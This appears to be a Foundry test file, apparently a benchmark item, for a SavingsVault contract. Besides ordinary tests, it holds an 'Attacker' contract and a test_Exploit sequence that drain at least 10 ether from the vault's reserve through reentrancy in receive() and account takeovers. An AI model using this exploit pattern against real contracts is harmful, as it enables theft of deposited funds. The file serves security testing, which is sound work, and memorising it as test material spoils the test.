// SPDX-License-Identifier: MPL-2.0
pragma solidity 0.8.19;

import "./SavingsVault.sol";

// assay-canary-5c7c573a-ceae-4f87-9b82-c099a623cb81

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
}

contract Attacker {
    SavingsVault internal vault;
    uint256 internal again;

    constructor(SavingsVault vault_) {
        vault = vault_;
    }

    receive() external payable {
        uint256 plan = again;
        again = 0;
        if (plan == 1) try vault.withdrawInterest() {} catch {}
        if (plan == 2) try vault.withdraw() {} catch {}
    }

    function first(address ada) external {
        vault.openAccount();
        vault.deposit{value: 1}();
        try vault.openAccount() {} catch {}
        try vault.setNominee(address(this)) {} catch {}
        try vault.takeOver(ada) {} catch {}
        try vault.takeOver(address(0)) {} catch {}
        try vault.giveNotice(type(uint128).max) {} catch {}
        for (uint256 i = 0; i < 5; ++i) {
            try vault.deposit{value: 0}() {} catch {}
            try vault.withdrawInterest() {} catch {}
        }
    }

    function tenYearsLater(address ada) external {
        try vault.takeOver(ada) {} catch {}
        try vault.takeOver(address(this)) {} catch {}
        vault.deposit{value: 90 ether}();
        again = 1;
        try vault.withdrawInterest() {} catch {}
        again = 0;
        vault.giveNotice(45 ether);
        try vault.withdraw() {} catch {}
        try vault.cancelNotice() {} catch {}
        vault.giveNotice(90 ether);
    }

    function nextWeek() external {
        try vault.cancelNotice() {} catch {}
        try vault.withdrawInterest() {} catch {}
        vault.giveNotice(90 ether);
    }

    function weekAfter() external {
        again = 2;
        try vault.withdraw() {} catch {}
        again = 1;
        try vault.withdrawInterest() {} catch {}
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant ADA = address(0xADA);
    address internal constant BEA = address(0xBEA);
    SavingsVault internal vault;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1_700_000_000);
        vm.deal(address(this), 20 ether);
        vault = new SavingsVault();
        vault.endow{value: 20 ether}();
        mallory = new Attacker(vault);
        vm.deal(address(mallory), 100 ether);
        vm.deal(ADA, 10 ether);
        vm.prank(ADA);
        vault.openAccount();
        vm.prank(ADA);
        vault.setNominee(BEA);
        vm.prank(ADA);
        vault.deposit{value: 10 ether}();
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(vault).call(data);
    }

    function test_Regular() public {
        require(!_try(abi.encodeCall(vault.deposit, ())), "no account");
        vm.warp(block.timestamp + 365 days + 5 hours);
        require(vault.interestOf(ADA) == 0.365 ether, "a year");
        vm.prank(ADA);
        vault.giveNotice(4 ether);
        vm.warp(block.timestamp + 6 days);
        vm.prank(ADA);
        require(!_try(abi.encodeCall(vault.withdraw, ())), "on notice");
        vm.warp(block.timestamp + 1 days);
        vm.prank(ADA);
        vault.withdraw();
        require(ADA.balance == 4 ether, "collected");
        vm.prank(ADA);
        vault.withdrawInterest();
        require(ADA.balance == 4.3692 ether && vault.reserve() == 19.6308 ether, "interest");

        vm.prank(BEA);
        vault.openAccount();
        vm.warp(block.timestamp + 1000 days);
        vm.prank(BEA);
        require(!_try(abi.encodeCall(vault.takeOver, (ADA))), "not silent for long enough");
        vm.prank(ADA);
        vault.giveNotice(1 ether);
        vm.warp(block.timestamp + 1825 days);
        vm.prank(BEA);
        vault.takeOver(ADA);
        (uint128 saved, , uint128 earned, , , , ) = vault.accounts(BEA);
        require(saved == 6 ether && earned == 0.6 ether + 0.9125 ether, "taken over");
        vm.prank(ADA);
        require(!_try(abi.encodeCall(vault.withdrawInterest, ())), "account is gone");
        vm.prank(BEA);
        vault.withdrawInterest();
        require(BEA.balance == 1.5125 ether, "paid to the nominee");

        vm.deal(ADA, 1 ether);
        vm.prank(ADA);
        vault.openAccount();
        vm.prank(ADA);
        vault.deposit{value: 1 ether}();
        vm.prank(ADA);
        vault.giveNotice(1 ether);
        vm.prank(ADA);
        vault.cancelNotice();
        (saved, , , , , , ) = vault.accounts(ADA);
        require(saved == 1 ether, "notice cancelled");
    }

    /// What the reserve still has for the interest of others.
    function forInterest() public view returns (uint256) {
        return vault.reserve();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Only who has an account uses one; nobody has two, or is their own nominee.
    function test_RefusesWithoutAnAccount() public {
        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
        vault.giveNotice(0);
        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
        vault.cancelNotice();
        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
        vault.withdraw();
        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
        vault.setNominee(ADA);
        refuses(ADA, abi.encodeWithSelector(SavingsVault.AccountExists.selector, ADA));
        vault.openAccount();
        refuses(ADA, abi.encodeWithSelector(SavingsVault.NotTheNominee.selector, ADA, ADA));
        vault.setNominee(ADA);
        vm.warp(block.timestamp + 5 * 365 days);
        refuses(BEA, abi.encodeWithSelector(SavingsVault.NoAccount.selector, BEA));
        vault.takeOver(ADA);
    }

    /// Who takes no ether is not paid.
    function test_RefusesFailedPayments() public {
        vm.prank(address(vault));
        vault.openAccount();
        refuses(address(vault), bytes("Address: unable to send value, recipient may have reverted"));
        vault.withdraw();
    }

    function exploit() public {
        mallory.first(ADA);
        vm.warp(block.timestamp + 3700 days);
        mallory.tenYearsLater(ADA);
        vm.warp(block.timestamp + 7 days);
        mallory.nextWeek();
        vm.warp(block.timestamp + 7 days);
        mallory.weekAfter();
    }

    function test_Exploit() public {
        uint256 before = forInterest();
        exploit();
        require(before - forInterest() >= 10 ether, "reserve is there");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
